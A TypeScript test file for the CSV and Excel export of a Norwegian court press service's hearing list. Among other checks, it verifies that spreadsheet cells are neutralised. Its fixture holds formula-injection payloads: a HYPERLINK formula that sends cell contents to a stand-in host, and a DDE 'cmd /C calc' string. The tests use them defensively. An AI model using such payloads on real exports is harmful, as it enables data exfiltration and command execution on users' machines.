import readWorkbook from 'read-excel-file/node';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eksportMessages } from '#domain/eksport.ts';
import { address, download, readCsv, readTable, SEARCH } from '#tests/support/bff/eksport-files.ts';
import type { Ask } from '#tests/support/bff/http-client.ts';
import { NOON, startTestBff, type TestBff } from '#tests/support/bff/test-bff.ts';
import { buildRettsmoete, buildSak } from '#tests/support/cases/build-sak.ts';
import { HIDDEN, saker, storeSaker } from '#tests/support/cases/saker.ts';
import { storeSak } from '#tests/support/cases/store-sak.ts';

let bff: TestBff;
let ask: Ask;
beforeAll(async () => {
  bff = await startTestBff();
  await storeSak(bff.db, bff.documents, DANGEROUS);
  await storeSaker(bff);
});
beforeEach(async () => {
  bff.time.now = NOON;
  ask = await bff.signedIn('presse');
});
afterAll(() => bff.close());

/** What a spreadsheet would calculate, markup, and characters that no workbook may have. */
const DANGEROUS = buildSak({
  sakId: 'FARLIG',
  saksnummer: '25-000077MED-TSOS/TSAR',
  saksTema: '=HYPERLINK("https://ond.example/?"&A1;"Åpne")',
  parter: "@SUM(1+1)*cmd|' /C calc'!A0 <b>&\"; Even Farlig",
  sakstype: '+1',
  rettsmoeter: [
    buildRettsmoete('2026-03-10T09:00:00+01:00', { begrensninger: ['lukkedeDoerer'] }),
    buildRettsmoete('2026-04-10T09:00:00+02:00', { hours: 30 }),
  ],
});

async function excel(changes: Readonly<Record<string, string>> = {}) {
  const response = await download(bff, address('xlsx', changes));
  const bytes = Buffer.concat(await response.toArray());
  const [hits, about] = await readWorkbook(bytes);
  const { rows } = readTable(hits!.data as (string | null)[][]);
  return { headers: response.headers, rows, about: about!.data, sheets: [hits, about] };
}

const newestRow = () => bff.db('revisjon').orderBy('id', 'desc').first<Record<string, unknown>>();

describe.each(['xlsx', 'csv'])('a file as %s', (format) => {
  it('is refused until somebody says that the rules are known', async () => {
    for (const kjennerReglene of ['', 'false', 'ja']) {
      const answer = await ask(address(format, { kjennerReglene }));
      expect(answer.status).toBe(400);
      expect(answer.json).toMatchObject({
        errors: { kjennerReglene: [eksportMessages.unconfirmed] },
      });
    }
  });

  it('is refused when the search is', async () => {
    const answer = await ask(address(format, { fraDato: '2020-01-01' }));
    expect(answer.status).toBe(400);
    expect(answer.json).toMatchObject({ errors: { fraDato: [expect.any(String)] } });
  });

  it('is written to the log before it is sent: the search, how it is saved, and each case', async () => {
    await ask(address(format, { query: 'Bakkerud -Synligsen' }));
    const row = await newestRow();
    expect(row).toMatchObject({
      handling: 'eksport',
      detaljer: { format, antall: 0, soek: { domstolid: 'alle' }, sakIds: [] },
    });
    expect(JSON.stringify(row)).not.toContain('Bakkerud');
    await ask(address(format, { query: '25-000001' }));
    expect(await newestRow()).toMatchObject({ detaljer: { antall: 1, sakIds: ['VIST'] } });
  });

  it('is not sent when the log cannot be written', async () => {
    await bff.db.raw('alter table revisjon rename to revisjon_borte');
    try {
      const answer = await ask(address(format));
      expect(answer.status).toBe(500);
      expect(answer.text).not.toContain('Synligsen');
    } finally {
      await bff.db.raw('alter table revisjon_borte rename to revisjon');
    }
  });
});

describe('CSV', () => {
  it('has the hits of the search, in their order', async () => {
    const answer = await ask(address('csv'));
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe(
      'attachment; filename="treff-2026-03-10.csv"',
    );
    expect(answer.headers.get('cache-control')).toBe('no-store');
    const page = await ask(`/api/presse/hent-berammingsliste?${new URLSearchParams(SEARCH)}`);
    const { hits } = page.json as { hits: { saksnummer: string }[] };
    const { rows } = readCsv(answer.text);
    expect(rows.map(({ Saksnummer }) => Saksnummer)).toEqual(
      hits.map(({ saksnummer }) => saksnummer),
    );
    expect(rows.length).toBeGreaterThan(2);
  });

  it('says at its head what was searched for, when, how many there are, and the rules', async () => {
    const answer = await ask(
      address('csv', { domstolid: 'TSOS', query: 'Synligsen', advokat: 'teller ikke' }),
    );
    expect(readCsv(answer.text).head.filter(([first]) => first !== '')).toEqual([
      ['Domstolenes pressetjeneste', 'Treffene i et søk'],
      ['Hentet', '10.03.2026 kl. 12:00'],
      ['Kategori', 'Berammede saker'],
      ['Domstol', 'Søndre Østfold tingrett'],
      ['Fra dato', '01.03.2026'],
      ['Til dato', '31.03.2026'],
      ['Søk etter', 'Synligsen'],
      ['Antall treff', '1'],
      ['Regler for bruk', eksportMessages.regler[0]],
    ]);
    for (const regel of eksportMessages.regler) expect(answer.text).toContain(regel.slice(0, 40));
  });

  it('has names only while they are shown, with the day on which they are deleted', async () => {
    const answer = await ask(address('csv', { fraDato: '2026-02-01' }));
    const byNumber = new Map(readCsv(answer.text).rows.map((row) => [row['Saksnummer'], row]));
    // The last hearing ends on 10 March.
    expect(byNumber.get(saker.vist.saksnummer)).toMatchObject({
      Parter: 'Påtalemyndigheten mot Even Synligsen',
      'Navn slettes senest': '2026-03-24',
      Rettsmøte: '2026-03-10 09:00',
      Tiltale: 'Tiltale VIST',
      Avgjørelse: 'Dom VIST',
      Avsagt: '2026-03-02',
      Lenke: `${bff.url}/beramming/VIST`,
    });
    expect(byNumber.get(saker.skjult.saksnummer)).toMatchObject({
      Parter: 'Anonymisert to uker etter rettsmøtet',
      'Navn slettes senest': '',
    });
    expect(byNumber.get(saker.anonymisert.saksnummer)).toMatchObject({
      Parter: 'Parter er anonymisert',
      'Navn slettes senest': '',
    });
    for (const hidden of HIDDEN) expect(answer.text).not.toContain(hidden);
  });

  it('has no cell that a spreadsheet calculates', async () => {
    const { rows } = readCsv((await ask(address('csv', { query: '25-000077' }))).text);
    expect(rows[0]).toMatchObject({
      'Saken gjelder': `'${DANGEROUS.saksTema}`,
      Parter: `'${DANGEROUS.parter}`,
      Sakstype: "'+1",
      'Alle rettsmøter':
        '10.03.2026 09:00–15:30 (lukkede dører); 10.04.2026 09:00–11.04.2026 15:00',
    });
  });

  it('says when its hits are those of another spelling', async () => {
    const answer = await ask(address('csv', { query: 'Overli Synligsen' }));
    const { head, rows } = readCsv(answer.text);
    const page = await ask(
      `/api/presse/hent-berammingsliste?${new URLSearchParams({ ...SEARCH, query: 'Overli Synligsen' })}`,
    );
    const { skrivemaate } = page.json as { skrivemaate: string | null };
    expect(skrivemaate).not.toBeNull();
    expect(rows.map(({ Saksnummer }) => Saksnummer)).toEqual([saker.vist.saksnummer]);
    expect(head.map(([first]) => first)).toContain('Skrivemåte');
  });
});

describe('Excel', () => {
  it('is read by another program as it was meant: texts as texts, days and times as such', async () => {
    const { headers, rows, about } = await excel({ query: '25-000077' });
    expect(headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(headers['content-disposition']).toBe('attachment; filename="treff-2026-03-10.xlsx"');
    expect(about[0]).toEqual(['Domstolenes pressetjeneste', 'Treffene i et søk']);
    expect(about).toContainEqual(['Søk etter', '25-000077']);
    expect(rows[0]).toMatchObject({
      Saksnummer: DANGEROUS.saksnummer,
      // The clock in Oslo, which a workbook has without a zone.
      Rettsmøte: new Date('2026-03-10T09:00:00Z'),
      'Saken gjelder': DANGEROUS.saksTema,
      Parter: DANGEROUS.parter,
      'Navn slettes senest': new Date('2026-04-25T00:00:00Z'),
      Sakstype: '+1',
      Avsagt: null,
    });
  });

  it('has what the CSV has', async () => {
    const { rows, sheets } = await excel();
    const csv = readCsv((await ask(address('csv'))).text);
    expect(rows.map(({ Saksnummer }) => Saksnummer)).toEqual(
      csv.rows.map(({ Saksnummer }) => Saksnummer),
    );
    for (const hidden of HIDDEN) expect(JSON.stringify(sheets)).not.toContain(hidden);
  });
});
